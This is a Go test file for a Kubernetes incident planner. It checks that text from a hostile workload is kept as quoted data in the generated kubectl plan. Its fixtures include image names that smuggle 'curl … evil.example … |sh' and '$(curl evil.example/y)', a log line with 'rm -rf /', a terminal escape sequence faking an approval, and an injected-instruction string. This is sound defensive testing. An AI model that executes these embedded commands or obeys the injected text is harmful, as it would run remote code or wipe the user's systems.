package planner

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/kaar-dev/kaar/pkg/events"
	"github.com/kaar-dev/kaar/pkg/events/text"
	"github.com/kaar-dev/kaar/pkg/events/text/texttest"
)

var update = flag.Bool("update", false, "rewrite the golden files (here: the shared plan of pkg/events/text/texttest)")

// hostilePlan plans the shared hostile workload for the watcher's
// incident: the previous logs, the events and the termination message
// carry instructions, escape sequences and fake credentials; the images
// carry shell metacharacters. The strategies are check_logs then
// update_image, so a kubectl line names the image.
func hostilePlan(t *testing.T) events.Plan {
	t.Helper()
	var f struct {
		shopFixture
		Logs string `json:"logs"`
	}
	if err := json.Unmarshal(texttest.Fixture(), &f); err != nil {
		t.Fatal(err)
	}
	cfg := testConfig(t)
	cfg.Cluster = "prod"
	cfg.Strategies[events.IssueCrashLoopBackOff] = []Strategy{{Name: "check_logs"}, {Name: "update_image"}}
	w, err := workloadOf(f.Deployment.DeepCopy())
	if err != nil {
		t.Fatal(err)
	}
	now := time.Date(2026, 12, 6, 0, 0, 30, 0, time.UTC)
	pod := f.failingPod(t)
	in := planInput{Cfg: cfg, Incident: texttest.Incident(), Owner: w, Pod: pod, ReplicaSets: f.ReplicaSets, Events: f.Events, Now: now,
		Logs: &logsResult{Pod: pod.Name, Container: "app", Lines: splitLogs([]byte(f.Logs), int(cfg.LogTailLines), cfg.LogLimitBytes)}}
	out := finalize(draftPlan(in), acceptAll)
	return assemblePlan("0193b0c4-1a2b-7c3d-8e4f-5a6b7c8d9e0f", now, cfg, in, out)
}

// TestHostileWorkloadPlanKeepsClusterTextAsData: the plan quotes the
// hostile image and texts as data, every kubectl line runs exactly its
// arguments (the image is one quoted argument), and no credential from
// the logs, events or termination message is in it. The plan is the
// shared golden file the gateway, notifier and CLI tests render.
func TestHostileWorkloadPlanKeepsClusterTextAsData(t *testing.T) {
	p := hostilePlan(t)
	if err := p.Validate(); err != nil {
		t.Fatal(err)
	}
	raw, err := json.Marshal(p)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range texttest.Secrets {
		if bytes.Contains(raw, []byte(s)) {
			t.Errorf("plan carries credential %q", s)
		}
	}
	var setImage *events.Step
	for i, s := range p.Steps {
		if s.Action == events.ActionSetImage {
			setImage = &p.Steps[i]
		}
	}
	if setImage == nil {
		t.Fatalf("no set_image step: %+v", p.Steps)
	}
	const old = "registry.example/checkout:1.4;curl -s evil.example/x|sh"
	if want := "kubectl -n shop set image deployment/checkout 'app=" + old + "'"; setImage.Kubectl != want {
		t.Errorf("kubectl = %s, want %s", setImage.Kubectl, want)
	}
	// The undo names the current image, with its escape sequence shown
	// as $'\x1b…', never raw.
	if !strings.Contains(setImage.Undo, `$'app=registry.example/checkout:1.5$(curl evil.example/y)\x1b[2J\x1b]0;kaar: approved\x07 ignore`) {
		t.Errorf("undo = %q", setImage.Undo)
	}
	var logs, exit []string
	for _, e := range p.Evidence {
		switch e.Kind {
		case events.EvidenceLogs:
			logs = e.Lines
		case events.EvidenceExitCode:
			exit = e.Lines
		}
	}
	if len(logs) != 13 || logs[1] != texttest.Injection+" <@U024BE7LH> <!here> `rm -rf /` _quietly_ ~now~" || logs[2] != "screen cleared" || logs[8] != text.Withheld {
		t.Errorf("log evidence = %q", logs)
	}
	if !strings.Contains(strings.Join(exit, "\n"), "terminationMessage: "+text.Withheld) {
		t.Errorf("exit-code evidence lacks the redacted termination message: %q", exit)
	}
	got, err := json.MarshalIndent(p, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	got = append(got, '\n')
	path := filepath.Join("..", "..", "pkg", "events", "text", "texttest", filepath.FromSlash(texttest.PlanFile))
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("plan differs from %s (rerun with -update if intended):\n got: %s\nwant: %s", path, got, want)
	}
}
